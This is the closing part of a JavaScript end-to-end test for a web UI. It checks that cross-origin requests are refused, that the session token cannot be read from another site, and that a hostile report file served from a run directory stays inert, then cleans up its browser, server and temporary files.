    step('another site cannot drive it: cross-origin posts refused, the session token unreadable');
    await crossSiteAttempts(context, url, path.join(tmp, 'ws'));

    step('a served run directory is data: its hostile report.html runs nothing and reaches nothing');
    await hostileReportIsInert(context, url, path.join(tmp, 'ws'), hits);
    console.log('web UI end-to-end: ok');
  } finally {
    attacker.close();
    await browser.close();
    child.kill();
    fs.rmSync(tmp, { recursive: true, force: true });
  }
}

main().catch((e) => {
  console.error(e);
  process.exit(1);
});
